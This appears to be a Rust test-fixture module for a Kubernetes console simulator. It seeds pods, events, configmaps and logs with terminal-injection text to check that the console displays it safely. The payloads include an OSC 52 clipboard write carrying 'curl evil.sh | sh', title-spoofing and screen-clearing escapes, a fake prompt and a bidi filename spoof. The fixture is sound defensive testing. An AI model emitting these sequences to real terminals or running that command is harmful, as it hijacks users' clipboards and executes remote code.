//! The hostile-objects fixture (`kdeck sim --hostile`, `POST hostile`): a
//! `hostile` namespace whose objects carry, in their free-form fields, text
//! a console must show and never obey or hide: terminal escape sequences
//! (CSI, OSC title sets and OSC 52 clipboard writes, C1 controls), bidi
//! overrides and isolates, zero-width characters, CJK and emoji, huge
//! values (annotations close to the 256 KiB limit, 253-character names).
//!
//! It stays what a real API server accepts: names are DNS subdomains, label
//! keys and values are valid, so hostile text goes only where a real server
//! takes any text: annotations, event reasons and messages, pod status
//! reasons and messages, termination messages, configmap data, and the log
//! lines of the `hostile-app` pod (`sim.kdeck.dev/logs: hostile`).

use chrono::{DateTime, Duration, SecondsFormat, Utc};
use serde_json::{Value, json};

use crate::cluster::{Cluster, fnv_hash};
use crate::controllers::pods;
use crate::store::{Store, WriteOpts};
use crate::validate::ANNOTATIONS_MAX_BYTES;
use crate::{defaults, meta};

pub const NAMESPACE: &str = "hostile";
/// A running pod with hostile annotations, a hostile termination message
/// from its last run, hostile events and hostile log lines.
pub const POD: &str = "hostile-app";
/// The annotation that makes a pod's containers write [`log_line`]s.
pub const LOGS_ANNOTATION: &str = "sim.kdeck.dev/logs";

/// An OSC 52 clipboard write (`curl evil.sh | sh`).
pub const OSC52: &str = "\u{1b}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u{7}";
/// OSC 0 and OSC 2 window-title sets, ended by BEL and by ST.
pub const TITLE: &str = "\u{1b}]0;you have been pwned\u{7}\u{1b}]2;pwned again\u{1b}\\";
/// Screen clear, cursor home and moves, a colour, a fake prompt.
pub const CSI: &str = "\u{1b}[2J\u{1b}[H\u{1b}[10A\u{1b}[31mFAKE PROMPT$ \u{1b}[0m";
/// A C1 CSI (U+009B), a bell and backspaces over text.
pub const C1: &str = "\u{9b}31mc1\u{7}abc\u{8}\u{8}\u{8}xyz";
/// A right-to-left override: `invoice-\u{202E}txt.exe` shows as `invoice-exe.txt`.
pub const BIDI: &str = "invoice-\u{202E}txt.exe";
/// Isolates around a word (LRI, RLI, FSI, PDI).
pub const ISOLATES: &str = "\u{2066}admin\u{2069} \u{2067}root\u{2069} \u{2068}x\u{2069}";
/// Zero-width space and joiner, byte-order mark.
pub const ZERO_WIDTH: &str = "pass\u{200B}word jo\u{200D}ined \u{FEFF}bom";
pub const CJK: &str = "日本語のメッセージ 中文消息 한국어 메시지";
pub const EMOJI: &str = "🚀 deployed 🔥 on fire 👩‍💻 ✓";

/// Every hostile text, named.
pub const TEXTS: &[(&str, &str)] = &[
    ("osc52", OSC52),
    ("title", TITLE),
    ("csi", CSI),
    ("c1", C1),
    ("bidi", BIDI),
    ("isolates", ISOLATES),
    ("zero-width", ZERO_WIDTH),
    ("cjk", CJK),
    ("emoji", EMOJI),
];

/// The 253-character name (the longest a real server accepts) of a failed
/// pod that carries an annotation close to the 256 KiB total.
pub fn long_pod_name() -> String {
    let head = "hostile-long-name-";
    format!("{head}{}", "x".repeat(253 - head.len()))
}

/// The 253-character name of a configmap.
pub fn long_configmap_name() -> String {
    let head = "hostile-long-config.";
    format!("{head}{}", "c".repeat(253 - head.len()))
}

/// All hostile texts in one line.
fn all_in_one() -> String {
    TEXTS
        .iter()
        .map(|(k, v)| format!("{k}: {v}"))
        .collect::<Vec<_>>()
        .join(" | ")
}

/// Hostile annotations (one per text, and all together).
fn annotations() -> serde_json::Map<String, Value> {
    let mut m = serde_json::Map::new();
    for (k, v) in TEXTS {
        m.insert(format!("hostile.kdeck.dev/{k}"), json!(v));
    }
    m.insert("hostile.kdeck.dev/all".into(), json!(all_in_one()));
    m
}

/// Line `n` of a hostile container's log, without its newline: every line
/// carries something a terminal would obey or hide; every other line is
/// the same text in a JSON line escaped to ASCII (`\u202e`), as many
/// loggers write it.
pub fn log_line(n: u64, at: DateTime<Utc>) -> Vec<u8> {
    let ts = at.to_rfc3339_opts(SecondsFormat::Millis, true);
    let (name, text) = TEXTS[((n / 2) % TEXTS.len() as u64) as usize];
    if n % 2 == 1 {
        let msg = ascii_json(&format!("hostile {name}: {text} (line {n})"));
        return format!("{{\"ts\":\"{ts}\",\"level\":\"warn\",\"msg\":{msg}}}").into_bytes();
    }
    let mut line = format!("{ts} WARN  hostile {name}: {text} (line {n})").into_bytes();
    if n % 6 == 4 {
        // Invalid UTF-8 next to an ESC.
        line.extend_from_slice(&[b' ', 0xff, 0x1b, 0xfe, b']']);
    }
    line
}

/// A JSON string with everything outside printable ASCII as `\uXXXX`.
pub fn ascii_json(s: &str) -> String {
    let mut out = String::from("\"");
    for c in s.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            ' '..='~' => out.push(c),
            c => {
                let mut units = [0u16; 2];
                for u in c.encode_utf16(&mut units) {
                    out.push_str(&format!("\\u{u:04x}"));
                }
            }
        }
    }
    out.push('"');
    out
}

fn write_opts(now: DateTime<Utc>) -> WriteOpts<'static> {
    WriteOpts {
        manager: "kubectl-create",
        now,
        dry_run: false,
    }
}

/// Create `obj` in `storage` unless an object of that name is there already
/// (the fixture can be added again: only what is missing comes back).
fn ensure(s: &mut Store, storage: &'static str, obj: Value, now: DateTime<Utc>) -> usize {
    let (ns, name) = (meta::namespace(&obj), meta::name(&obj));
    if s.get(storage, ns, name).is_some() {
        return 0;
    }
    match s.create(storage, obj, &write_opts(now)) {
        Ok(_) => 1,
        Err(e) => {
            tracing::warn!("hostile fixture: creating {storage}: {e}");
            0
        }
    }
}

/// A pod grown through its lifecycle from `created` (scheduled, started,
/// ready, or run to its end), as the scheduler and kubelet would.
fn grown_pod(s: &mut Store, mut pod: Value, created: DateTime<Utc>) -> Value {
    pod["metadata"]["uid"] = json!(s.new_uid());
    pod["metadata"]["creationTimestamp"] = json!(meta::ts(created));
    defaults::apply("pods", &mut pod);
    let nodes = pods::node_infos(s.list("nodes", None));
    let mut t = created + Duration::seconds(1);
    for _ in 0..20 {
        let Some(step) = pods::advance(&pod, &nodes, t) else {
            break;
        };
        pod = step.pod;
        match step.next {
            Some(next) => t += next,
            None => break,
        }
    }
    pod
}

fn container(name: &str) -> Value {
    json!({
        "name": name,
        "image": "ghcr.io/acme-corp/hostile-app:1.0.0",
        "resources": {"requests": {"cpu": "10m", "memory": "16Mi"}, "limits": {"memory": "64Mi"}},
    })
}

/// The running pod: hostile annotations, hostile log lines, and a previous
/// run that ended with a hostile termination message.
fn app_pod(s: &mut Store, now: DateTime<Utc>) -> Value {
    let created = now - Duration::minutes(15);
    let mut ann = annotations();
    ann.insert(LOGS_ANNOTATION.into(), json!("hostile"));
    let pod = json!({
        "metadata": {"name": POD, "namespace": NAMESPACE,
            "labels": {"app": POD, "app.kubernetes.io/part-of": "hostile-fixture"},
            "annotations": ann},
        "spec": {"containers": [container("app")]},
    });
    let mut pod = grown_pod(s, pod, created);
    let last_start = created + Duration::seconds(5);
    let last_end = created + Duration::seconds(65);
    let start = created + Duration::seconds(70);
    if let Some(cs) = pod["status"]["containerStatuses"]
        .as_array_mut()
        .and_then(|a| a.first_mut())
    {
        cs["restartCount"] = json!(1);
        cs["lastState"] = json!({"terminated": {
            "exitCode": 1, "reason": "Error",
            "message": format!("panic: {OSC52} {TITLE} {BIDI} {ZERO_WIDTH} {CJK}"),
            "startedAt": meta::ts(last_start), "finishedAt": meta::ts(last_end),
            "containerID": cs["containerID"].clone(),
        }});
        if cs["state"]["running"].is_object() {
            cs["state"]["running"]["startedAt"] = json!(meta::ts(start));
        }
    }
    pod
}

/// The failed pod with the longest name: a hostile reason and message, a
/// hostile termination message, and annotations close to the size limit.
fn long_pod(s: &mut Store, now: DateTime<Utc>) -> Value {
    let created = now - Duration::minutes(30);
    let mut ann = annotations();
    let used: usize = ann
        .iter()
        .map(|(k, v)| k.len() + v.as_str().map_or(0, str::len))
        .sum();
    let key = "hostile.kdeck.dev/huge";
    // Close to the limit: 1 KiB under it.
    let room = ANNOTATIONS_MAX_BYTES - used - key.len() - 1024;
    let unit = format!("{OSC52}{BIDI}{CJK}{EMOJI}\n");
    let mut huge = unit.repeat(room / unit.len());
    huge.push_str(&"x".repeat(room - huge.len()));
    ann.insert(key.into(), json!(huge));
    ann.insert(pods::BEHAVIOR.into(), json!("fail"));
    let pod = json!({
        "metadata": {"name": long_pod_name(), "namespace": NAMESPACE,
            "labels": {"app": "hostile-long", "app.kubernetes.io/part-of": "hostile-fixture"},
            "annotations": ann},
        "spec": {"restartPolicy": "Never", "containers": [container("app")]},
    });
    let mut pod = grown_pod(s, pod, created);
    let status = &mut pod["status"];
    status["phase"] = json!("Failed");
    status["reason"] = json!(format!("Evicted{TITLE}{BIDI}"));
    status["message"] = json!(format!(
        "The node was low on resource: memory. {CSI} {OSC52} {ISOLATES} {ZERO_WIDTH} {EMOJI}"
    ));
    if let Some(cs) = status["containerStatuses"]
        .as_array_mut()
        .and_then(|a| a.first_mut())
    {
        let started = meta::ts(created + Duration::seconds(5));
        let finished = meta::ts(created + Duration::seconds(125));
        cs["ready"] = json!(false);
        cs["started"] = json!(false);
        cs["state"] = json!({"terminated": {
            // kubectl's STATUS column shows a terminated container's reason.
            "exitCode": 137, "reason": format!("Error{OSC52}{BIDI}"),
            "message": format!("killed: {C1} {CSI} {CJK}"),
            "startedAt": started, "finishedAt": finished,
            "containerID": cs["containerID"].clone(),
        }});
    }
    pod
}

/// Core/v1 events about `pod` (a real server takes any reason and message
/// through core/v1), named as client-go names them.
fn events(pod: &Value, now: DateTime<Utc>) -> Vec<Value> {
    let long = format!("{CJK} {EMOJI} ").repeat(40);
    let list: [(&str, String, String); 7] = [
        (
            "Warning",
            format!("Pwned{TITLE}"),
            format!("title change: {TITLE} then more text"),
        ),
        (
            "Warning",
            "ClipboardWrite".into(),
            format!("clipboard write: {OSC52} (curl evil.sh | sh)"),
        ),
        (
            "Normal",
            format!("Bidi{BIDI}"),
            format!("attachment {BIDI} by {ISOLATES}"),
        ),
        (
            "Normal",
            "ZeroWidth".into(),
            format!("hidden characters: {ZERO_WIDTH}"),
        ),
        (
            "Warning",
            "ScreenClear".into(),
            format!("{CSI} {C1} after the clear"),
        ),
        ("Normal", "Unicode".into(), format!("{CJK} {EMOJI}")),
        ("Normal", "LongMessage".into(), long),
    ];
    let involved = json!({
        "kind": "Pod", "apiVersion": "v1", "namespace": NAMESPACE,
        "name": pod["metadata"]["name"], "uid": pod["metadata"]["uid"],
        "fieldPath": "spec.containers{app}",
    });
    let node = pod["spec"]["nodeName"].as_str().unwrap_or("");
    let count = list.len();
    list.into_iter()
        .enumerate()
        .map(|(i, (kind, reason, message))| {
            let at = now - Duration::seconds(60 * (count - i) as i64);
            let name = format!("{}.{:x}", meta::name(pod), fnv_hash(&reason));
            json!({
                "metadata": {"name": name, "namespace": NAMESPACE, "creationTimestamp": meta::ts(at)},
                "involvedObject": involved,
                "reason": reason,
                "message": message,
                "source": {"component": "kubelet", "host": node},
                "firstTimestamp": meta::ts(at),
                "lastTimestamp": meta::ts(at),
                "count": 1,
                "type": kind,
                "eventTime": null,
                "reportingComponent": "kubelet",
                "reportingInstance": node,
            })
        })
        .collect()
}

fn configmaps(now: DateTime<Utc>) -> Vec<Value> {
    let mut data = serde_json::Map::new();
    for (k, v) in TEXTS {
        data.insert(format!("{k}.txt"), json!(v));
    }
    data.insert("all.txt".into(), json!(all_in_one()));
    data.insert(
        "multi-line.txt".into(),
        json!(TEXTS.iter().map(|(_, v)| *v).collect::<Vec<_>>().join("\n")),
    );
    let t = meta::ts(now - Duration::minutes(20));
    vec![
        json!({"metadata": {"name": "hostile-config", "namespace": NAMESPACE, "creationTimestamp": t,
            "labels": {"app.kubernetes.io/part-of": "hostile-fixture"}, "annotations": annotations()},
            "data": data}),
        json!({"metadata": {"name": long_configmap_name(), "namespace": NAMESPACE, "creationTimestamp": t,
            "labels": {"app.kubernetes.io/part-of": "hostile-fixture"}},
            "data": {"cjk.txt": CJK, "emoji.txt": EMOJI}}),
    ]
}

/// Add the fixture to `cluster` (what is missing of it); the number of
/// objects created.
pub fn add(cluster: &Cluster) -> usize {
    let now = Utc::now();
    cluster.write(|s, _| {
        let mut n = 0;
        let mut ns = json!({"metadata": {"name": NAMESPACE,
            "creationTimestamp": meta::ts(now - Duration::hours(1)),
            "annotations": annotations()}});
        defaults::apply("namespaces", &mut ns);
        n += ensure(s, "namespaces", ns, now);
        n += ensure(
            s,
            "serviceaccounts",
            json!({"metadata": {"name": "default", "namespace": NAMESPACE}}),
            now,
        );
        for cm in configmaps(now) {
            n += ensure(s, "configmaps", cm, now);
        }
        if s.get("pods", NAMESPACE, POD).is_none() {
            let pod = app_pod(s, now);
            n += ensure(s, "pods", pod, now);
        }
        let long = long_pod_name();
        if s.get("pods", NAMESPACE, &long).is_none() {
            let pod = long_pod(s, now);
            n += ensure(s, "pods", pod, now);
        }
        // Events only about the pod with a short name: an event's name is
        // its object's name and a suffix, and must stay a DNS subdomain.
        if let Some(pod) = s.get("pods", NAMESPACE, POD) {
            for e in events(&pod, now) {
                n += ensure(s, "events", e, now);
            }
        }
        n
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::cluster::ClusterSpec;
    use crate::{registry, validate};

    fn cluster() -> Cluster {
        let spec = ClusterSpec {
            name: "prod-eu".into(),
            nodes: 3,
            namespaces: 1,
            pods: 20,
            seed: 3,
            metrics: true,
            history: 1000,
            log_rate: 1.0,
            events: 0,
        };
        let c = Cluster::new(spec, Utc::now());
        let mut ctl = crate::controllers::Controllers::default();
        super::super::populate(&c, 0, &mut ctl);
        c
    }

    #[test]
    fn the_fixture_is_what_a_real_server_accepts() {
        let c = cluster();
        let n = add(&c);
        assert!(n >= 12, "{n} objects");
        assert_eq!(add(&c), 0, "adding again creates nothing new");
        let s = c.store.lock();
        for def in registry::RESOURCES
            .iter()
            .filter(|d| !d.virtual_only && d.storage == d.plural)
        {
            for o in s.list(def.storage, None) {
                if meta::namespace(o) == NAMESPACE || meta::name(o) == NAMESPACE {
                    validate::check(def, o)
                        .unwrap_or_else(|e| panic!("{} {}: {e}", def.plural, meta::name(o)));
                }
            }
        }
    }

    #[test]
    fn free_form_fields_carry_every_hostile_text() {
        let c = cluster();
        add(&c);
        let s = c.store.lock();
        let app = s.get("pods", NAMESPACE, POD).unwrap();
        assert_eq!(app["status"]["phase"], "Running", "{}", app["status"]);
        assert!(!pods::needs_attention(&app), "the controllers leave it be");
        let last = &app["status"]["containerStatuses"][0]["lastState"]["terminated"];
        assert!(last["message"].as_str().unwrap().contains(OSC52));
        let long = s.get("pods", NAMESPACE, &long_pod_name()).unwrap();
        assert_eq!(long_pod_name().len(), 253);
        assert_eq!(long["status"]["phase"], "Failed");
        assert!(long["status"]["reason"].as_str().unwrap().contains(TITLE));
        assert!(long["status"]["message"].as_str().unwrap().contains(CSI));
        let term = &long["status"]["containerStatuses"][0]["state"]["terminated"];
        assert!(term["reason"].as_str().unwrap().contains(OSC52));
        let total: usize = long["metadata"]["annotations"]
            .as_object()
            .unwrap()
            .iter()
            .map(|(k, v)| k.len() + v.as_str().unwrap().len())
            .sum();
        assert!(
            (ANNOTATIONS_MAX_BYTES - 2048..=ANNOTATIONS_MAX_BYTES).contains(&total),
            "{total}"
        );
        let events: Vec<_> = s
            .list("events", None)
            .filter(|e| meta::namespace(e) == NAMESPACE)
            .collect();
        assert_eq!(events.len(), 7);
        let text: String = events
            .iter()
            .map(|e| format!("{} {}", e["reason"], e["message"]))
            .collect();
        let cm = s.get("configmaps", NAMESPACE, "hostile-config").unwrap();
        let data = cm["data"].to_string();
        for (_, t) in TEXTS {
            let quoted = json!(t).to_string();
            let quoted = &quoted[1..quoted.len() - 1];
            assert!(text.contains(quoted), "events lack {t:?}");
            assert!(data.contains(quoted), "configmap lacks {t:?}");
        }
    }

    #[test]
    fn hostile_log_lines_carry_every_text() {
        let now = Utc::now();
        let lines: Vec<Vec<u8>> = (0..2 * TEXTS.len() as u64)
            .map(|n| log_line(n, now))
            .collect();
        for (_, t) in TEXTS {
            assert!(
                lines
                    .iter()
                    .any(|l| l.windows(t.len()).any(|w| w == t.as_bytes())),
                "{t:?}"
            );
            // And escaped in an ASCII JSON line.
            assert!(
                lines.iter().any(|l| {
                    l.is_ascii()
                        && serde_json::from_slice::<Value>(l)
                            .is_ok_and(|v| v["msg"].as_str().is_some_and(|m| m.contains(t)))
                }),
                "{t:?} in JSON"
            );
        }
        assert!(
            (0..14).any(|n| std::str::from_utf8(&log_line(n, now)).is_err()),
            "some lines are not UTF-8"
        );
    }
}
